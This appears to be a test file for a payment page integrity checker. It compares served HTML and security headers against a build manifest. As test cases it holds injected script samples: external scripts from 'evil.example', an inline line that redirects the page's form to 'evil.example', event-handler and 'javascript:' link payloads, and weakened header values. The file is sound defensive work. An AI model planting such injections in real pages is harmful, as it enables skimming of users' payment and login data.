import { makeSecurityHeaders } from '@/lib/server/security/security-headers';
import { verifyPage } from './verify-page';

const nonce = 'bm9uY2U=';
const url = 'https://pay.example/';
const manifest = { '/_next/static/chunks/one.js': 'hash' };
const goodHtml = `<!DOCTYPE html><html><head><script src="/_next/static/chunks/one.js" async="" nonce="${nonce}"></script></head>
<body><a href="/apg/help">Help</a><script nonce="${nonce}">self.__next_f.push([1,"<b onclick=\\"x\\">"])</script></body></html>`;

function headersOf(changes: Readonly<Record<string, string>> = {}): Headers {
  const none: readonly string[] = [];
  const made = makeSecurityHeaders({
    ...{ nonce, isHttps: true, hstsIncludesSubdomains: false, postsToOtherSite: false, development: null },
    ...{ frameAncestors: none, formTargets: none, imageOrigins: none, widgetOrigins: none },
  });
  return new Headers({ ...made, ...changes });
}

const verify = (html: string, headers = headersOf()) => verifyPage({ url, headers, html }, manifest);
const withScript = (script: string) => verify(goodHtml.replace('</body>', `${script}</body>`));

test('row 34: a page as it was built has no difference', () => {
  expect(verify(goodHtml)).toEqual([]);
});

test.each([
  ['from another site', `<script nonce="${nonce}" src="https://evil.example/x.js"></script>`],
  ['from another site, by its scheme', `<script nonce="${nonce}" src="//evil.example/x.js"></script>`],
  ['that was not built', `<script nonce="${nonce}" src="/_next/static/chunks/two.js"></script>`],
  ['without a nonce', `<script src="/_next/static/chunks/one.js"></script>`],
  ['in the page', `<script nonce="${nonce}">document.forms[0].action="https://evil.example"</script>`],
  ['behind the data of the framework', `<script nonce="${nonce}">self.__next_f.push([1,""]);steal()//])</script>`],
  ['in capitals', `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`],
  ['on an event', `<img src="/x.png" onerror="steal()">`],
  ['behind a link', `<a href="javascript:steal()">Pay</a>`],
  ['in a frame', `<iframe src="https://evil.example"></iframe>`],
])('row 34: a script %s is an alarm', (_where, script) => {
  expect(withScript(script)).toHaveLength(1);
});

test('row 34: another base is an alarm', () => {
  expect(withScript('<base href="https://evil.example/">')).toHaveLength(1);
});

test.each([
  ['x-frame-options', 'SAMEORIGIN'],
  ['referrer-policy', 'unsafe-url'],
  ['strict-transport-security', 'max-age=0'],
  ['permissions-policy', ''],
  ['content-security-policy', `script-src 'self' 'nonce-${nonce}' 'unsafe-inline'`],
])('row 34: another %s is an alarm', (name, value) => {
  expect(verify(goodHtml, headersOf({ [name]: value }))).toEqual([expect.stringContaining(`${name} is '${value}'`)]);
});

test('row 34: a page without its headers is an alarm for each of them', () => {
  expect(verify(goodHtml, new Headers()).length).toBeGreaterThanOrEqual(6);
});
